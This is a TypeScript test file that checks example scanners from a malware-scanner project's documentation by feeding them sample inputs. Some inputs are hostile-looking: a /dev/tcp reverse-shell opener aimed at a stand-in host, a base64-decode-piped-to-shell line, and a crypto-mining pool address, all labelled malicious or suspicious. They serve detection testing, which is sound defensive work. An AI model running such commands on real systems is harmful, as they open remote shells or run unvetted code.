import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseDescription } from "../../src/scanners/described/described.ts";
import { ScannerWork } from "./scanner-work.ts";

const guide = (name: string): string =>
  readFileSync(new URL(`../../docs/${name}.md`, import.meta.url), "utf8");
const blocks = (text: string, language: string): string[] =>
  [...text.matchAll(new RegExp(`\`\`\`${language}\\n([\\s\\S]*?)\`\`\``, "g"))].map(([, code]) => code!);

// See exec.test.ts.
describe("the guide to programs as backends", { retry: 3 }, () => {
  const folder = mkdtempSync(join(tmpdir(), "microengine-guide-"));
  const inFolder = (name: string): string => join(folder, name);
  const text = guide("backend-exec");

  beforeAll(() => {
    writeFileSync(inFolder("spot.sh"), blocks(text, "sh")[0]!, { mode: 0o755 });
    for (const description of blocks(text, "json")) {
      const { name } = JSON.parse(description) as { name: string };
      writeFileSync(inFolder(`${name}.json`), description);
    }
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  it("shows a shell script that is a scanner", async () => {
    await using spot = await ScannerWork.open(inFolder("spot.json"));
    expect(await spot.scan("exec 3<>/dev/tcp/a.example/80\n")).toEqual({
      kind: "finding",
      finding: { verdict: "malicious", confidence: 0.8, family: "Script.ReverseShell" },
    });
    expect(await spot.scan("echo x | base64 -d | sh\n")).toMatchObject({
      finding: { verdict: "suspicious", confidence: 0.3, metadata: { heuristic: true } },
    });
    for (const content of ["", "ls\n", Buffer.alloc(300_000)]) {
      expect(await spot.scan(content)).toEqual({ kind: "finding", finding: { verdict: "unknown" } });
    }
  });

  it("shows a program of the PATH that answers by its exit code", async () => {
    await using mining = await ScannerWork.open(inFolder("mining.json"));
    expect(await mining.scan("pool = stratum+tcp://p.example:3333")).toEqual({
      kind: "finding",
      finding: { verdict: "malicious", confidence: 0.7, family: "Miner" },
    });
    expect(await mining.scan("pool = none")).toEqual({ kind: "finding", finding: { verdict: "unknown" } });
  });
});

it.each([
  ["backend-exec", 3],
  ["backend-http", 4],
])("%s shows descriptions that are understood", (name, count) => {
  const descriptions = blocks(guide(name), "json");
  expect(descriptions.length).toBe(count);
  for (const description of descriptions) expect(() => parseDescription(description, name)).not.toThrow();
});
